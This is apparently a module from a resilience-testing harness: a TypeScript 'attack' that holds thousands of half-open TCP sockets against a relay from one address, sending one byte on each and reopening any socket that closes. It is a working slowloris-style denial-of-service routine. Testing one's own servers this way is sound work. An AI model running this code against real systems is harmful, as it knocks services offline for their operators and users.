import { connect, type Socket } from 'node:net'
import type { Attack, GroundSetting } from '../attack.ts'
import { hostileAddress } from '../tools/from-address.ts'
import { tellUntilEnd } from '../tools/tell-until-end.ts'

/** More than a relay holds. */
const SOCKETS = 3300
/** Opened at a time, so that all stand within seconds on one processor. */
const AT_ONCE = 100
const COME_BACK_MS = 20

/** What is cut at this door are requests: whoever asks opens a socket for each. */
export const setting: GroundSetting = { question: { kind: 'http', path: '/network.json' } }

/** One address that holds thousands of sockets, sends one byte over each, and comes back whenever one is cut. */
export const attack: Attack = async ({ relays }, { signal, tell }) => {
  const { hostname, port } = new URL(relays[0]?.url ?? '')
  const host = hostname === 'localhost' ? '127.0.0.1' : hostname
  const localAddress = hostileAddress(1)
  const held = new Set<Socket>()
  let sockets = 0
  const open = async (): Promise<void> => {
    const socket = connect({ host, port: Number(port), localAddress })
    held.add(socket)
    sockets++
    const { promise, resolve } = Promise.withResolvers<void>()
    socket.on('error', () => undefined)
    socket.once('connect', () => (socket.write('G'), resolve()))
    socket.once('close', () => {
      held.delete(socket)
      resolve()
      if (!signal.aborted) setTimeout(() => void open(), COME_BACK_MS)
    })
    socket.resume()
    await promise
  }
  for (let opened = 0; opened < SOCKETS && !signal.aborted; opened += AT_ONCE)
    await Promise.all(Array.from({ length: AT_ONCE }, open))
  await tellUntilEnd(signal, () => tell({ addresses: 1, sockets, bytes: sockets }), held)
}
